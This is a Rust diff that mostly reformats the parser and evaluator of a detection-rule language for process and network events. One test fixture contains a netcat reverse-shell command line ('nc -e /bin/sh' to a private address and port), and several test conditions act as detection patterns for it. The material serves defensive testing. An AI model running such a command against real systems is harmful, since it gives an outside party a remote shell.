@@ -84,7 +84,10 @@ fn lex(src: &str) -> Result<Vec<(usize, Tok)>, ExprError> {
     let b = src.as_bytes();
     let mut i = 0;
     let mut out = Vec::new();
-    let err = |offset, m: &str| ExprError { offset, message: m.to_owned() };
+    let err = |offset, m: &str| ExprError {
+        offset,
+        message: m.to_owned(),
+    };
     while i < b.len() {
         let c = b[i];
         let start = i;
@@ -149,7 +152,12 @@ fn lex(src: &str) -> Result<Vec<(usize, Tok)>, ExprError> {
                             Some(&e @ (b'\\' | b'"' | b'\'')) => s.push(e as char),
                             Some(b'n') => s.push('\n'),
                             Some(b't') => s.push('\t'),
-                            _ => return Err(err(i, "unknown escape (use \\\\, \\\", \\', \\n or \\t)")),
+                            _ => {
+                                return Err(err(
+                                    i,
+                                    "unknown escape (use \\\\, \\\", \\', \\n or \\t)",
+                                ));
+                            }
                         }
                         i += 2;
                         continue;
@@ -196,7 +204,9 @@ fn lex(src: &str) -> Result<Vec<(usize, Tok)>, ExprError> {
                     "not" => {
                         // `not in` is one operator; a bare `not` negates.
                         let rest = src[j..].trim_start();
-                        if rest.starts_with("in") && !rest[2..].starts_with(|c: char| c.is_alphanumeric() || c == '_') {
+                        if rest.starts_with("in")
+                            && !rest[2..].starts_with(|c: char| c.is_alphanumeric() || c == '_')
+                        {
                             j = src.len() - rest.len() + 2;
                             Tok::Op(CmpOp::NotIn)
                         } else {
@@ -280,9 +290,18 @@ impl Expr {
     pub fn compile(src: &str, kinds: &[Kind]) -> Result<(Expr, Vec<Field>), ExprError> {
         let toks = lex(src)?;
         if toks.is_empty() {
-            return Err(ExprError { offset: 0, message: "empty condition".into() });
+            return Err(ExprError {
+                offset: 0,
+                message: "empty condition".into(),
+            });
         }
-        let mut p = Parser { toks: &toks, pos: 0, end: src.len(), kinds, fields: Vec::new() };
+        let mut p = Parser {
+            toks: &toks,
+            pos: 0,
+            end: src.len(),
+            kinds,
+            fields: Vec::new(),
+        };
         let e = p.or()?;
         if let Some((off, t)) = toks.get(p.pos) {
             return Err(ExprError {
@@ -304,11 +323,16 @@ impl Expr {
             Expr::Cmp(f, c) => match f.get(ev) {
                 Some(v) => c.eval(v),
                 // An absent field satisfies only negative tests.
-                None => matches!(
-                    c,
-                    Cmp::StrEq(_, false) | Cmp::StrIn(_, false) | Cmp::IntIn(_, false) | Cmp::IpIn(_, false)
-                ) || matches!(c, Cmp::IntCmp(CmpOp::Ne, _))
-                    || matches!(c, Cmp::BoolEq(_, false)),
+                None => {
+                    matches!(
+                        c,
+                        Cmp::StrEq(_, false)
+                            | Cmp::StrIn(_, false)
+                            | Cmp::IntIn(_, false)
+                            | Cmp::IpIn(_, false)
+                    ) || matches!(c, Cmp::IntCmp(CmpOp::Ne, _))
+                        || matches!(c, Cmp::BoolEq(_, false))
+                }
             },
         }
     }
@@ -339,7 +363,9 @@ impl Cmp {
             (Cmp::ListContains(l), v @ (Val::Strs(_) | Val::Lineage(_))) => {
                 v.any_str(|x| l.iter().any(|s| s == x))
             }
-            (Cmp::ListMatches(p), v @ (Val::Strs(_) | Val::Lineage(_))) => v.any_str(|x| glob(p, x)),
+            (Cmp::ListMatches(p), v @ (Val::Strs(_) | Val::Lineage(_))) => {
+                v.any_str(|x| glob(p, x))
+            }
             (Cmp::ListStarts(p), v @ (Val::Strs(_) | Val::Lineage(_))) => {
                 v.any_str(|x| x.starts_with(p.as_str()))
             }
@@ -375,7 +401,10 @@ impl Parser<'_> {
     }
 
     fn err<T>(&self, offset: usize, message: impl Into<String>) -> Result<T, ExprError> {
-        Err(ExprError { offset, message: message.into() })
+        Err(ExprError {
+            offset,
+            message: message.into(),
+        })
     }
 
     fn or(&mut self) -> Result<Expr, ExprError> {
@@ -384,7 +413,11 @@ impl Parser<'_> {
             self.pos += 1;
             v.push(self.and()?);
         }
-        Ok(if v.len() == 1 { v.pop().expect("one") } else { Expr::Or(v) })
+        Ok(if v.len() == 1 {
+            v.pop().expect("one")
+        } else {
+            Expr::Or(v)
+        })
     }
 
     fn and(&mut self) -> Result<Expr, ExprError> {
@@ -393,7 +426,11 @@ impl Parser<'_> {
             self.pos += 1;
             v.push(self.unary()?);
         }
-        Ok(if v.len() == 1 { v.pop().expect("one") } else { Expr::And(v) })
+        Ok(if v.len() == 1 {
+            v.pop().expect("one")
+        } else {
+            Expr::And(v)
+        })
     }
 
     fn unary(&mut self) -> Result<Expr, ExprError> {
@@ -445,7 +482,11 @@ impl Parser<'_> {
                 off,
                 format!(
                     "field `{name}` is never present on {} events (only on: {})",
-                    self.kinds.iter().map(|k| k.name()).collect::<Vec<_>>().join(", "),
+                    self.kinds
+                        .iter()
+                        .map(|k| k.name())
+                        .collect::<Vec<_>>()
+                        .join(", "),
                     carried.join(", ")
                 ),
             );
@@ -461,7 +502,10 @@ impl Parser<'_> {
                 }
                 return self.err(
                     self.offset(),
-                    format!("`{name}` is a {}: compare it with an operator", field.ty().name()),
+                    format!(
+                        "`{name}` is a {}: compare it with an operator",
+                        field.ty().name()
+                    ),
                 );
             }
         };
@@ -516,13 +560,29 @@ impl Parser<'_> {
     }
 }
 
-fn typed(field: Field, op: CmpOp, op_off: usize, lit: Lit, lit_off: usize) -> Result<Cmp, ExprError> {
+fn typed(
+    field: Field,
+    op: CmpOp,
+    op_off: usize,
+    lit: Lit,
+    lit_off: usize,
+) -> Result<Cmp, ExprError> {
     let ty = field.ty();
-    let bad = |m: String| Err(ExprError { offset: lit_off, message: m });
+    let bad = |m: String| {
+        Err(ExprError {
+            offset: lit_off,
+            message: m,
+        })
+    };
     let bad_op = || {
         Err(ExprError {
             offset: op_off,
-            message: format!("`{}` does not apply to `{}` ({})", op.text(), field.name(), ty.name()),
+            message: format!(
+                "`{}` does not apply to `{}` ({})",
+                op.text(),
+                field.name(),
+                ty.name()
+            ),
         })
     };
     let strs = |items: Vec<(usize, Lit)>| -> Result<Vec<String>, ExprError> {
@@ -530,7 +590,10 @@ fn typed(field: Field, op: CmpOp, op_off: usize, lit: Lit, lit_off: usize) -> Re
             .into_iter()
             .map(|(o, l)| match l {
                 Lit::Str(s) => Ok(s),
-                _ => Err(ExprError { offset: o, message: format!("`{}` holds strings: expected a string", field.name()) }),
+                _ => Err(ExprError {
+                    offset: o,
+                    message: format!("`{}` holds strings: expected a string", field.name()),
+                }),
             })
             .collect()
     };
@@ -543,8 +606,13 @@ fn typed(field: Field, op: CmpOp, op_off: usize, lit: Lit, lit_off: usize) -> Re
             (CmpOp::EndsWith, Lit::Str(s)) => Ok(Cmp::StrEnds(s)),
             (CmpOp::Matches, Lit::Str(s)) => Ok(Cmp::StrMatches(s)),
             (CmpOp::Lt | CmpOp::Le | CmpOp::Gt | CmpOp::Ge | CmpOp::Has, _) => bad_op(),
-            (CmpOp::In | CmpOp::NotIn, _) => bad(format!("`{}` needs a list of strings", op.text())),
-            _ => bad(format!("`{}` is a string: expected a quoted string", field.name())),
+            (CmpOp::In | CmpOp::NotIn, _) => {
+                bad(format!("`{}` needs a list of strings", op.text()))
+            }
+            _ => bad(format!(
+                "`{}` is a string: expected a quoted string",
+                field.name()
+            )),
         },
         Type::Int => match (op, lit) {
             (CmpOp::In | CmpOp::NotIn, Lit::List(l)) => {
@@ -552,21 +620,31 @@ fn typed(field: Field, op: CmpOp, op_off: usize, lit: Lit, lit_off: usize) -> Re
                     .into_iter()
                     .map(|(o, l)| match l {
                         Lit::Int(i) => Ok(i),
-                        _ => Err(ExprError { offset: o, message: format!("`{}` is an integer: expected a number", field.name()) }),
+                        _ => Err(ExprError {
+                            offset: o,
+                            message: format!("`{}` is an integer: expected a number", field.name()),
+                        }),
                     })
                     .collect::<Result<_, _>>()?;
                 Ok(Cmp::IntIn(v, op == CmpOp::In))
             }
-            (CmpOp::Eq | CmpOp::Ne | CmpOp::Lt | CmpOp::Le | CmpOp::Gt | CmpOp::Ge, Lit::Int(i)) => {
-                Ok(Cmp::IntCmp(op, i))
-            }
+            (
+                CmpOp::Eq | CmpOp::Ne | CmpOp::Lt | CmpOp::Le | CmpOp::Gt | CmpOp::Ge,
+                Lit::Int(i),
+            ) => Ok(Cmp::IntCmp(op, i)),
             (CmpOp::Has, Lit::Int(i)) => Ok(Cmp::IntBits(i)),
             (CmpOp::Contains | CmpOp::StartsWith | CmpOp::EndsWith | CmpOp::Matches, _) => bad_op(),
-            _ => bad(format!("`{}` is an integer: expected a number", field.name())),
+            _ => bad(format!(
+                "`{}` is an integer: expected a number",
+                field.name()
+            )),
         },
         Type::Bool => match (op, lit) {
             (CmpOp::Eq | CmpOp::Ne, Lit::Bool(b)) => Ok(Cmp::BoolEq(b, op == CmpOp::Eq)),
-            (CmpOp::Eq | CmpOp::Ne, _) => bad(format!("`{}` is a boolean: expected true or false", field.name())),
+            (CmpOp::Eq | CmpOp::Ne, _) => bad(format!(
+                "`{}` is a boolean: expected true or false",
+                field.name()
+            )),
             _ => bad_op(),
         },
         Type::Ip => {
@@ -574,8 +652,14 @@ fn typed(field: Field, op: CmpOp, op_off: usize, lit: Lit, lit_off: usize) -> Re
                 items
                     .into_iter()
                     .map(|(o, l)| match l {
-                        Lit::Str(s) => s.parse::<Cidr>().map_err(|m| ExprError { offset: o, message: m }),
-                        _ => Err(ExprError { offset: o, message: "expected an address or network in quotes".into() }),
+                        Lit::Str(s) => s.parse::<Cidr>().map_err(|m| ExprError {
+                            offset: o,
+                            message: m,
+                        }),
+                        _ => Err(ExprError {
+                            offset: o,
+                            message: "expected an address or network in quotes".into(),
+                        }),
                     })
                     .collect()
             };
@@ -584,10 +668,13 @@ fn typed(field: Field, op: CmpOp, op_off: usize, lit: Lit, lit_off: usize) -> Re
                     let n = nets(vec![(lit_off, Lit::Str(s))])?;
                     Ok(Cmp::IpIn(n, op == CmpOp::Eq))
                 }
-                (CmpOp::In | CmpOp::NotIn, Lit::List(l)) => Ok(Cmp::IpIn(nets(l)?, op == CmpOp::In)),
-                (CmpOp::Eq | CmpOp::Ne | CmpOp::In | CmpOp::NotIn, _) => {
-                    bad(format!("`{}` is an ip address: expected \"10.0.0.1\" or a list of networks", field.name()))
+                (CmpOp::In | CmpOp::NotIn, Lit::List(l)) => {
+                    Ok(Cmp::IpIn(nets(l)?, op == CmpOp::In))
                 }
+                (CmpOp::Eq | CmpOp::Ne | CmpOp::In | CmpOp::NotIn, _) => bad(format!(
+                    "`{}` is an ip address: expected \"10.0.0.1\" or a list of networks",
+                    field.name()
+                )),
                 _ => bad_op(),
             }
         }
@@ -596,9 +683,10 @@ fn typed(field: Field, op: CmpOp, op_off: usize, lit: Lit, lit_off: usize) -> Re
             (CmpOp::Contains, Lit::List(l)) => Ok(Cmp::ListContains(strs(l)?)),
             (CmpOp::Matches, Lit::Str(s)) => Ok(Cmp::ListMatches(s)),
             (CmpOp::StartsWith, Lit::Str(s)) => Ok(Cmp::ListStarts(s)),
-            (CmpOp::Contains | CmpOp::Matches | CmpOp::StartsWith, _) => {
-                bad(format!("`{}` is a list of strings: expected a quoted string", field.name()))
-            }
+            (CmpOp::Contains | CmpOp::Matches | CmpOp::StartsWith, _) => bad(format!(
+                "`{}` is a list of strings: expected a quoted string",
+                field.name()
+            )),
             _ => bad_op(),
         },
     }
@@ -620,7 +708,9 @@ fn distance(a: &str, b: &str) -> usize {
     for (i, ca) in a.chars().enumerate() {
         let mut cur = vec![i + 1; b.len() + 1];
         for (j, cb) in b.iter().enumerate() {
-            cur[j + 1] = (prev[j] + usize::from(ca != *cb)).min(prev[j + 1] + 1).min(cur[j] + 1);
+            cur[j + 1] = (prev[j] + usize::from(ca != *cb))
+                .min(prev[j + 1] + 1)
+                .min(cur[j] + 1);
         }
         prev = cur;
     }
@@ -635,7 +725,11 @@ mod tests {
     fn exec(comm: &str, argv: &[&str]) -> Event {
         Event {
             ts: Timestamp::from_secs(1),
-            process: Process { pid: 10, comm: comm.into(), ..Default::default() },
+            process: Process {
+                pid: 10,
+                comm: comm.into(),
+                ..Default::default()
+            },
             kind: EventKind::Exec {
                 filename: format!("/usr/bin/{comm}"),
                 argv: argv.iter().map(|s| s.to_string()).collect(),
@@ -652,15 +746,36 @@ mod tests {
     #[test]
     fn evaluates_typed_conditions() {
         let e = exec("nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
-        assert!(c(r#"comm in ["nc", "ncat"] && argv contains "-e""#, &[Kind::Exec]).eval(&e));
+        assert!(
+            c(
+                r#"comm in ["nc", "ncat"] && argv contains "-e""#,
+                &[Kind::Exec]
+            )
+            .eval(&e)
+        );
         assert!(c(r#"argv matches "/bin/*sh""#, &[Kind::Exec]).eval(&e));
         assert!(!c(r#"comm == "bash" || uid != 0"#, &[Kind::Exec]).eval(&e));
-        assert!(c(r#"not (comm == "bash") and pid >= 10 and pid not in [1, 2]"#, &[Kind::Exec]).eval(&e));
+        assert!(
+            c(
+                r#"not (comm == "bash") and pid >= 10 and pid not in [1, 2]"#,
+                &[Kind::Exec]
+            )
+            .eval(&e)
+        );
         let conn = Event {
-            kind: EventKind::Connect { addr: NetAddr::Inet { ip: "10.1.2.3".parse().unwrap(), port: 3333 }, ret: 0 },
+            kind: EventKind::Connect {
+                addr: NetAddr::Inet {
+                    ip: "10.1.2.3".parse().unwrap(),
+                    port: 3333,
+                },
+                ret: 0,
+            },
             ..e
         };
-        let ip = c(r#"ip in ["10.0.0.0/8"] && port == 3333 && ret == 0"#, &[Kind::Connect]);
+        let ip = c(
+            r#"ip in ["10.0.0.0/8"] && port == 3333 && ret == 0"#,
+            &[Kind::Connect],
+        );
         assert!(ip.eval(&conn));
         assert!(!c(r#"ip == "10.1.2.4""#, &[Kind::Connect]).eval(&conn));
         // A field this event lacks satisfies only negative tests.
